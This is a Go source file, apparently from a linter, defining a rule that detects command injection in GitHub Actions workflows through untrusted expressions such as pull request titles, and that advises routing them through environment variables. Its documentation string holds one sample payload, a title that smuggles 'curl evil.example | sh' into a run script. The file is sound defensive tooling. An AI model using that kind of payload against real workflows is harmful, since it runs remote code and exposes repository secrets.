package use

import (
	"fmt"
	"maps"
	"strings"

	"github.com/sot-validator/sot/engine/rule"
	"github.com/sot-validator/sot/engine/rule/data/document"
	"github.com/sot-validator/sot/engine/rule/use/actionsexpr"
)

func githubWorkflowInjection() rule.Use {
	return rule.Use{
		ID:  "github-workflow-injection",
		Why: "Whoever can open an issue or a pull request then runs commands with the workflow's token and secrets.",
		Doc: `Finds scripts of GitHub Actions into which a stranger can write.

An expression in a script is put in before the shell reads it: a pull request called
` + "`\"; curl evil.example | sh #`" + ` runs, wherever ` + "`run`" + ` holds its title. As an environment
variable it is a text and nothing more:

    - run: echo "$TITLE"
      env: { TITLE: "${{ github.event.pull_request.title }}" }

Looked at are ` + "`run`" + ` of workflows and composite actions, and the scripts that are handed to
actions/github-script, appleboy/ssh-action, azure/cli, azure/powershell,
addnab/docker-run-action and nick-fields/retry. Untrusted is what whoever opens an issue or a
pull request chooses: titles, bodies, names of branches (github.head_ref), messages and
authors of commits, pages of a wiki, also by way of env, of format, join, || and toJSON, and
however the context is written (github['event'], github.event.*.body). Comparisons, contains
and hashFiles hold no such text.

- inputs: texts that are handed to a workflow or an action as inputs are untrusted, too.

What a step gives as its output is not followed. The verdict is actionlint's on untrusted
inputs, which does not follow env, knows fewer contexts, and reports what is only compared.
`,
		Defaults: rule.Selector{Files: []string{".github/workflows/*.{yml,yaml}", "**/action.{yml,yaml}"}},
		With: rule.Object("options of github-workflow-injection",
			rule.Key{Name: "inputs", Shape: rule.Boolean("texts that are handed to a workflow or an action as inputs are untrusted, too")}),
		New: func(with rule.Value) (rule.Check, []rule.Problem) {
			return workflowInjection{with.Get("inputs").Bool(false)}, nil
		},
	}
}

// workflowInjection is the check github-workflow-injection.
type workflowInjection struct{ inputs bool }

// contexts are those that expressions speak of, by name.
type contexts map[string]*actionsexpr.Context

// CheckFile looks at all steps of a workflow or an action. What is no YAML is
// another check's finding.
func (c workflowInjection) CheckFile(p *rule.Pass, f *rule.File) {
	docs := document.Of(f, document.YAML)
	if len(docs.Roots) != 1 {
		return
	}
	root := docs.Roots[0]
	s := injections{pass: p, file: f, seen: map[int]bool{}}
	in := contexts{"github": actionsexpr.GitHub()}
	if c.inputs {
		in = in.withInputs(root)
	}
	s.steps(down(root, "runs", "steps"), in) // an action's
	in = in.withEnv(root)
	for _, job := range kids(down(root, "jobs")) {
		s.steps(down(job, "steps"), in.withEnv(job))
	}
}

// injections are what is found in a file.
type injections struct {
	pass *rule.Pass
	file *rule.File
	seen map[int]bool // by their places, since aliases share steps
}

func (s *injections) steps(list *document.Node, in contexts) {
	for _, step := range kids(list) {
		env := in.withEnv(step)
		s.script(down(step, "run"), env, `"$NAME"`)
		for _, to := range scriptOf(text(down(step, "uses"))) {
			for _, input := range kids(down(step, "with")) {
				if strings.EqualFold(input.Key, to) {
					s.script(input, env, environmentIn(to))
				}
			}
		}
	}
}

// scriptOf returns the inputs of an action that are run as a script.
func scriptOf(uses string) []string {
	name, _, _ := strings.Cut(strings.ToLower(uses), "@")
	switch name {
	case "actions/github-script", "appleboy/ssh-action":
		return []string{"script"}
	case "azure/cli", "azure/powershell":
		return []string{"inlineScript"}
	case "addnab/docker-run-action":
		return []string{"run"}
	case "nick-fields/retry", "nick-invision/retry":
		return []string{"command", "on_retry_command", "new_command_on_retry"}
	}
	return nil
}

// environmentIn is how a script reads the variable NAME.
func environmentIn(input string) string {
	if input == "script" {
		return "process.env.NAME"
	}
	return `"$NAME"`
}

// script reports what flows into a script.
func (s *injections) script(n *document.Node, in contexts, variable string) {
	script := text(n)
	spans := actionsexpr.Embedded(script)
	if len(spans) == 0 {
		return
	}
	// The value's text differs from the file's in indentation and escapes; the
	// expressions are as many, unless one is escaped itself.
	places := actionsexpr.Embedded(string(s.file.Bytes()[n.Start:n.End]))
	for i, span := range spans {
		names, ok := actionsexpr.Flows(span.Text, in)
		if !ok || len(names) == 0 {
			continue
		}
		start, end := n.Start, n.End
		if len(places) == len(spans) {
			start, end = n.Start+places[i].Start, n.Start+places[i].End
		}
		if s.seen[start] {
			continue
		}
		s.seen[start] = true
		s.pass.Range(s.file, start, end, "a stranger can write %s, which becomes a part of this script: hand it over as env: { NAME: %s }, and write %s",
			listed(names), "${{ ... }}", variable)
	}
}

// listed names a few.
func listed(names []string) string {
	const most = 3
	if more := len(names) - most; more > 0 {
		return strings.Join(names[:most], ", ") + fmt.Sprintf(" and %d more", more)
	}
	return strings.Join(names, " and ")
}

// withEnv returns the contexts with the variables of a node's env that hold
// what is untrusted, and without those that hold something else there.
func (in contexts) withEnv(n *document.Node) contexts {
	vars := kids(down(n, "env"))
	if len(vars) == 0 {
		return in
	}
	env := actionsexpr.NewContext("env").With(in["env"])
	for _, v := range vars {
		env.Drop(v.Key)
		for _, span := range actionsexpr.Embedded(text(v)) {
			if names, ok := actionsexpr.Flows(span.Text, in); ok && len(names) > 0 && !strings.Contains(v.Key, ".") {
				env.Add(v.Key)
			}
		}
	}
	return in.and("env", env)
}

// and returns the contexts with another in the place of one.
func (in contexts) and(name string, c *actionsexpr.Context) contexts {
	out := maps.Clone(in)
	out[name] = c
	return out
}

// withInputs returns the contexts with the inputs that may hold any text.
func (in contexts) withInputs(root *document.Node) contexts {
	inputs, events := actionsexpr.NewContext("inputs"), actionsexpr.NewContext("github")
	lists := []*document.Node{down(root, "inputs"), down(root, "on", "workflow_call", "inputs"), down(root, "on", "workflow_dispatch", "inputs")}
	for i, list := range lists {
		for _, x := range kids(list) {
			switch text(down(x, "type")) {
			case "boolean", "number", "choice":
				continue
			}
			if strings.Contains(x.Key, ".") {
				continue // no name that an expression can say
			}
			inputs.Add(x.Key)
			if i == len(lists)-1 {
				events.Add("event.inputs." + x.Key)
			}
		}
	}
	return in.and("inputs", inputs).and("github", events.With(in["github"]))
}

// down returns what keys lead to; nil where there is nothing.
func down(n *document.Node, keys ...string) *document.Node {
	for _, k := range keys {
		if n == nil {
			return nil
		}
		n = n.Kid(k)
	}
	return n
}

func kids(n *document.Node) []*document.Node {
	if n == nil {
		return nil
	}
	return n.Kids
}

func text(n *document.Node) string {
	if n == nil {
		return ""
	}
	s, _ := n.Value.(string)
	return s
}
